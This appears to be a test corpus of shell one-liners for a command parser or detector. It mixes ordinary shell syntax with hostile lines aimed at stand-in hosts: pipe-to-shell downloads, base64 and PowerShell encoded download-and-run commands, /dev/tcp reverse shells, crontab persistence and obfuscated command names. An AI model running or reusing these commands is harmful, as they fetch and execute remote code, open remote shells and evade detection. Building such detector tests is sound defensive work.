curl -s https://h.example.test/a | sh
curl -fsSL "https://h.example.test/$USER" | sudo -E bash - >/dev/null 2>&1 &
A=cu; B=rl; $A$B http://x.example.test/; CMD="wget -q http://y"; $CMD
eval "$(curl -s http://z)"
S=$(curl -s q); eval "$S"
echo Y3VybCBodHRwOi8vYi5leGFtcGxlLnRlc3QvIHwgc2g= | base64 -d | sh
eval `echo "Y3VybCBhLnRlc3Q=" | base64 --decode`
{curl,-s,http://q}|bash
cu$@rl c"u"r'l' \curl $'\x63\x75rl' a
python - <<EOF
import os
EOF
sh <<'X' | tee l
wget q
X
python3 -c "import os; os.system('id')" ; node -e 'require("x")'
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
exec 5<>/dev/tcp/192.0.2.1/44; cat <&5 | while read line; do $line 2>&5 >&5; done
bash <(curl -s http://x)
if [ -f x ]; then node a.js; else ./b.sh; fi
for i in 1 2; do curl $i; done
case $x in a|b) curl 1;; *) wget 2 ;; esac
f() { curl f; }; f
nohup timeout 5 env A=b node index.js > /dev/null 2>&1 &
find . -name x -exec rm -rf {} \;
echo http://x | xargs -n1 curl -O
cat x.sh | sh
cat > /tmp/x.sh <<EOF
curl $HOME
EOF
sh /tmp/x.sh
powershell -NoP -W Hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA
powershell (New-Object Net.WebClient).DownloadFile('http://x','a.exe'); Start-Process a.exe
cmd /c start /b curl x ^& calc
(crontab -l; echo "* * * * * curl x") | crontab -
curl${IFS}http://x;wget$IFS$9y
x=${y:-http://d}; curl $x; z=abcdef; echo ${z:1:3} ${z//b/x} ${z#ab} ${#z}
osascript -e 'do shell script "curl x | sh"'
trap 'rm -f x' EXIT; alias k=curl; k http://k
